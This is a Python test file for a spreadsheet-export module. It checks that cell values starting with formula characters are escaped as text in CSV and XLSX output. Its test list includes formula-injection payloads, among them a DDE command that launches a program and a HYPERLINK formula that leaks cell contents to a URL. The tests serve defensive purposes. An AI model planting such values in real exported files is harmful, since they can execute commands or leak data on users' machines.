"""Tables for spreadsheets: what people typed is never computed (promise 30)."""

import csv
import datetime as dt
import zipfile
from decimal import Decimal
from io import BytesIO, StringIO

import pytest
from hypothesis import given
from hypothesis import strategies as st

from niangjia.core import sheets

FORMULAS = [
    "=1+1",
    "+86 138",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1+1",
    "\u200b=1",
    '=HYPERLINK("https://example.org/?"&A1,"看")',
    "=cmd|'/c calc'!A0",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text(text):
    assert sheets.safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", ["王小明", "1-2", "a=b", "", "3 月 -5 日", -5, 0, 2.5, Decimal("-1.2")]
)
def test_control_what_is_none_stays_as_it_is(value):
    assert sheets.safe_cell(value) == value


def test_days_moments_and_nothing_are_text():
    moment = dt.datetime(2026, 11, 22, 8, 30, tzinfo=dt.UTC)
    cells = [sheets.safe_cell(v) for v in (dt.date(2026, 1, 2), moment, None, True)]
    assert cells == ["2026-01-02", "2026-11-22 08:30:00+00:00", "", "True"]


@given(
    st.lists(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0")), min_size=1))
)
def test_csv_says_what_it_was_given_and_no_cell_begins_a_formula(rows):
    text = b"".join(sheets.csv_lines(rows)).decode("utf-8-sig")
    read = [row for row in csv.reader(StringIO(text, newline="")) if row]
    assert [[cell.removeprefix("'") for cell in row] for row in read] == [
        [cell.removeprefix("'") for cell in row] for row in rows
    ]
    assert not [cell for row in read for cell in row if sheets.FORMULA.match(cell)]


def test_excel_is_told_the_encoding():
    assert next(sheets.csv_lines([])).startswith(b"\xef\xbb\xbf")


def test_a_workbook_has_texts_and_no_formula():
    made = sheets.xlsx([["姓名", "金额"], *[[text, -1.5] for text in FORMULAS]], title="会员[1]")
    with zipfile.ZipFile(BytesIO(made)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        texts = archive.read("xl/sharedStrings.xml").decode()
    assert "<f>" not in sheet
    assert sheet.count("<v>-1.5</v>") == len(FORMULAS)
    assert "'=1+1" in texts
    assert "姓名" in texts


def test_the_same_rows_make_the_same_workbook():
    assert sheets.xlsx([["a"], [1]]) == sheets.xlsx([["a"], [1]])
